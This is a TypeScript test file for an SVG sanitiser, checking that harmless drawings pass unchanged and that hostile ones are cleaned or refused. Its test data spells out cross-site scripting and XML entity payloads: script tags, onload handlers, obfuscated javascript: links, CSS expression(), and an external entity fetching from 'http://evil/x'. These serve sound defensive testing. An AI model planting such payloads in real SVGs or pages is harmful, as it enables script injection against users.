import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cleanSvg } from './svg.ts'

const clean = (text: string) => cleanSvg(new TextEncoder().encode(text))
const textOf = (text: string) => {
  const made = clean(text)
  if ('problem' in made) throw new Error(made.problem)
  return made.text
}

describe('a drawing', () => {
  it.each([
    '<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n<svg xmlns="http://www.w3.org/2000/svg" width="24" viewBox="0 0 48 24"><style>.a{fill:url(#g)}</style><g class=\'a\'><path d="M0 0&#x20;L1 1"/></g><a href="https://example.com"><text>A &amp; B</text></a></svg>\n',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [\n<!ENTITY ns_svg "http://www.w3.org/2000/svg">\n]>\n<svg xmlns="&ns_svg;"/>',
    '<svg:svg xmlns:svg="http://www.w3.org/2000/svg"><svg:image href="data:image/png;base64,AA=="/></svg:svg>',
    '<svg><style><![CDATA[a > b { fill: red }]]></style><animate attributeName="x" values="0;1"/></svg>',
  ])('that is harmless stays to the letter: %#', (text) => {
    expect(clean(text)).toMatchObject({ text, removed: [] })
  })

  it('says how large it shows', () => {
    expect(clean('<svg width="24" viewBox="0 0 48 24"/>')).toMatchObject({ size: { width: 24, height: 12 } })
    expect(clean('<svg viewBox="0,0,48.4,24"/>')).toMatchObject({ size: { width: 48, height: 24 } })
    expect(clean('<svg width="100%"/>')).not.toHaveProperty('size')
  })

  it.each<[hostile: string, left: string]>([
    ['<svg><script>alert(1)</script><g/></svg>', '<svg><g/></svg>'],
    ['<svg><script href="x.js"/><g/></svg>', '<svg><g/></svg>'],
    [
      '<svg xmlns:x="http://www.w3.org/2000/svg"><x:script>1</x:script></svg>',
      '<svg xmlns:x="http://www.w3.org/2000/svg"></svg>',
    ],
    ['<svg onload="alert(1)" ONCLICK=\'x\'/>', '<svg/>'],
    ['<svg><a xlink:href="javascript:alert(1)"/></svg>', '<svg><a/></svg>'],
    ['<svg><a x:href="&#106;ava&#x73;cript:alert(1)"/></svg>', '<svg><a/></svg>'],
    ['<svg><a href="java\nscript:alert(1)"/></svg>', '<svg><a/></svg>'],
    [
      '<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]><svg><a href="&x;"/></svg>',
      '<!DOCTYPE svg [<!ENTITY x "javascript:alert(1)">]><svg><a/></svg>',
    ],
    ['<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]><svg/>', '<!DOCTYPE svg []><svg/>'],
    ['<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://evil/x">%x;]><svg/>', '<!DOCTYPE svg []><svg/>'],
    ['<?xml-stylesheet type="text/xsl" href="data:,x"?><svg/>', '<svg/>'],
    ['<svg><set attributeName="onmouseover" to="alert(1)"/></svg>', '<svg><set to="alert(1)"/></svg>'],
    ['<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', '<svg><animate/></svg>'],
    ['<svg><use href="data:image/svg+xml,&lt;svg/&gt;#x"/></svg>', '<svg><use/></svg>'],
    [
      '<svg><foreignObject><iframe src="x"/><p>ok</p></foreignObject></svg>',
      '<svg><foreignObject><p>ok</p></foreignObject></svg>',
    ],
    [
      '<svg><foreignObject><iframe><script/></iframe></foreignObject></svg>',
      '<svg><foreignObject></foreignObject></svg>',
    ],
    ['<svg><style>a { behavior: url(x.htc) }</style></svg>', '<svg><style></style></svg>'],
    ['<svg><style>a { width: expres&#115;ion(alert(1)) }</style></svg>', '<svg><style></style></svg>'],
  ])('%s is cleaned', (hostile, left) => {
    expect(clean(hostile)).toMatchObject({ text: left, removed: expect.arrayContaining([expect.any(String)]) })
    expect(clean(left)).toMatchObject({ text: left, removed: [] })
  })

  it.each([
    '<svg><g></svg>',
    '<svg/><svg/>',
    '<svg>',
    'text <svg/>',
    '<svg a=b/>',
    '<svg a="<"/>',
    '<svg a="1" a="2"/>',
    '<svg>&undeclared;</svg>',
    '<svg>a & b</svg>',
    '<!DOCTYPE svg [<!ENTITY x "<script>1</script>">]><svg>&x;</svg>',
    '<!DOCTYPE svg [<!ENTITY a "&b;"><!ENTITY b "x">]><svg>&a;</svg>',
    '<svg><!-- a -- b --></svg>',
    '<svg><![CDATA[ x</svg>',
    '<svg></SVG>',
    '',
  ])('%s is refused', (text) => {
    expect(clean(text)).toHaveProperty('problem')
  })

  it('is read as it says it is written, or not at all', () => {
    const bytes = (text: string) => Uint8Array.from([...text].map((each) => each.charCodeAt(0)))
    expect(cleanSvg(bytes('<?xml version="1.0" encoding="ISO-2022-JP"?><svg/>'))).toHaveProperty('problem')
    expect(cleanSvg(bytes('<?xml version="1.0" encoding="UTF-7"?><svg/>'))).toHaveProperty('problem')
    expect(cleanSvg(bytes('<?xml version="1.0" encoding="ISO-8859-1"?><svg><t>\xfc</t></svg>'))).toMatchObject({
      text: '<?xml version="1.0" encoding="UTF-8"?><svg><t>ü</t></svg>',
    })
    expect(cleanSvg(bytes('<svg>\xfc</svg>'))).toHaveProperty('problem')
  })

  it('that was cleaned needs no cleaning, and holds nothing that runs', () => {
    const piece = fc.constantFrom(
      '<g>',
      '</g>',
      '<script>',
      '</script>',
      '<a href="javascript:1">',
      '</a>',
      '<x:script/>',
      ' onload="1"',
      '<g onclick="1"/>',
      'alert(1)',
      '<!-- -->',
      '<![CDATA[<script>]]>',
      '&lt;',
      '<style>',
      '</style>',
      '>',
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 14 }), (pieces) => {
        const made = clean(`<svg>${pieces.join('')}</svg>`)
        if ('problem' in made) return
        expect(textOf(made.text)).toBe(made.text)
        expect(made.text.replace(/<!\[CDATA\[.*?\]\]>/g, '')).not.toMatch(/<(\w+:)?script|<[^<>]*\son\w+="|javascript:/)
      }),
      { numRuns: 3_000 },
    )
  })
})
